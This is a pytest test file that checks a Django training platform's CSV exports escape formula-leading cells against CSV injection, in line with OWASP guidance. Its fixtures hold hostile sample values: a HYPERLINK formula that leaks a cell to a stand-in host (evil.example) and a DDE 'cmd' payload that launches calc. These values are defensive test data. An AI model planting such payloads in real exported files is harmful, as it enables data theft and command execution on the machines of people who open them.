"""CSV injection: every CSV download escapes formula-leading cells (OWASP), with hostile names.

A display name or team name that starts with =, +, - or @ must reach a spreadsheet as text.
Each download is driven through HTTP as the L&D Manager who would open it.
"""

import csv
import datetime
import io

import pytest

from accounts import roles
from config.csv_export import FORMULA_STARTS, csv_cell, csv_cell_unescape
from home.analytics.filters import Filters
from home.analytics.selectors import TABLES
from leaderboard.services import points_award
from tests.accounts.factories import TeamFactory, UserFactory

ANALYTICS = "/admin/programme/analytics/"
EXPORT = "/admin/programme/onboarding/export.csv"
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
HOSTILE_TEAM = "@SUM(1+1)*cmd|' /C calc'!A0"


def rows_of(response) -> list[list[str]]:
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode())))


def assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), (cell, row)


@pytest.fixture
def manager_client(client, db):
    client.force_login(UserFactory(roles=[roles.LD_MANAGER]))
    return client


@pytest.fixture
def hostile(db):
    """A team and a person with formula names, present in every table that names people."""
    from challenges.services.correct import correction_submit, review_submit
    from courses.models import ModuleCompletion
    from courses.services import assignment_create
    from tests.challenges.factories import make_challenge
    from tests.courses.factories import module_page

    team = TeamFactory(name=HOSTILE_TEAM, department="-2+3")
    person = UserFactory(team=team, display_name=HOSTILE_NAME, first_name="+1", last_name="-1")
    points_award(user=person, amount=5, kind="lesson.completed", source_key="csv:1")
    author = UserFactory()
    correction = correction_submit(
        user=author,
        challenge=make_challenge(),
        text="You can return the kettle within 30 days with proof of purchase.",
        rationale="The AI invented the refund policy.",
    )
    review_submit(
        reviewer=person,
        correction=correction,
        scores={"accuracy": 4, "tone": 4, "completeness": 4, "policy_fit": 4},
        comment="Fine.",
    )
    module = module_page()
    ModuleCompletion.objects.create(user=person, module=module)
    due = datetime.date.today() + datetime.timedelta(days=7)
    manager = UserFactory(roles=[roles.LD_MANAGER])
    assignment_create(module=module, due_date=due, assigned_by=manager, user=person)
    assignment_create(module=module, due_date=due, assigned_by=manager, team=team)
    return team, person


def test_onboarding_export_escapes_hostile_names(manager_client, hostile):
    rows = rows_of(manager_client.get(EXPORT))
    assert_no_formula(rows)
    header = rows[0]
    row = next(r for r in rows if r[header.index("team")] == "'" + HOSTILE_TEAM)
    assert row[header.index("display_name")] == "'" + HOSTILE_NAME
    assert row[header.index("first_name")] == "'+1"
    assert row[header.index("department")] == "'-2+3"


def test_onboarding_export_still_round_trips(manager_client, hostile):
    """The escape is undone on import: re-importing the export changes nobody."""
    from django.core.files.uploadedfile import SimpleUploadedFile

    exported = manager_client.get(EXPORT).content
    response = manager_client.post(
        "/admin/programme/onboarding/",
        {"file": SimpleUploadedFile("people.csv", exported, "text/csv")},
    )
    preview = response.context["preview"]
    assert preview.is_clean, [r.errors for r in preview.rows if r.errors]
    assert preview.summary["create"] == 0
    assert preview.summary["update"] == 0


SLUGS = [
    "participation-team",
    "participation-week",
    "points-kind",
    "module-completion",
    "assignments",
    "quiz-failed",
    "flaws-missed",
    "ai-failures",
    "review-load",
]


def test_every_analytics_table_is_checked_below(db):
    assert [build(Filters()).slug for build in TABLES] == SLUGS


@pytest.mark.parametrize("slug", SLUGS)
def test_every_analytics_csv_escapes_hostile_names(manager_client, hostile, slug):
    rows = rows_of(manager_client.get(ANALYTICS, {"download": slug, "format": "csv"}))
    assert_no_formula(rows)
    cells = {cell for row in rows for cell in row}
    if slug in {"participation-team", "module-completion"}:
        assert "'" + HOSTILE_TEAM in cells
    if slug == "review-load":
        assert "'" + HOSTILE_NAME in cells
    if slug == "assignments":
        assert {"'" + HOSTILE_TEAM, "'" + HOSTILE_NAME} <= cells


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_each_formula_start_is_escaped_and_undone(start):
    value = f"{start}1+1"
    assert csv_cell(value) == "'" + value
    assert csv_cell_unescape(csv_cell(value)) == value


def test_numbers_and_plain_text_are_left_alone():
    assert csv_cell(-5) == -5
    assert csv_cell(2.5) == 2.5
    assert csv_cell(None) == ""
    assert csv_cell("Claims") == "Claims"
    assert csv_cell_unescape("'quoted") == "'quoted"


def test_every_csv_writer_is_the_escaping_helper():
    """A new CSV download must go through config/csv_export.py (one rule, one place)."""
    from pathlib import Path

    root = Path(__file__).resolve().parent.parent
    apps = ("accounts", "challenges", "config", "courses", "home", "leaderboard", "mentoring")
    writers = [
        str(path.relative_to(root))
        for app in apps
        for path in (root / app).rglob("*.py")
        if "csv.writer(" in path.read_text() or "csv.DictWriter(" in path.read_text()
    ]
    assert writers == ["config/csv_export.py"], writers
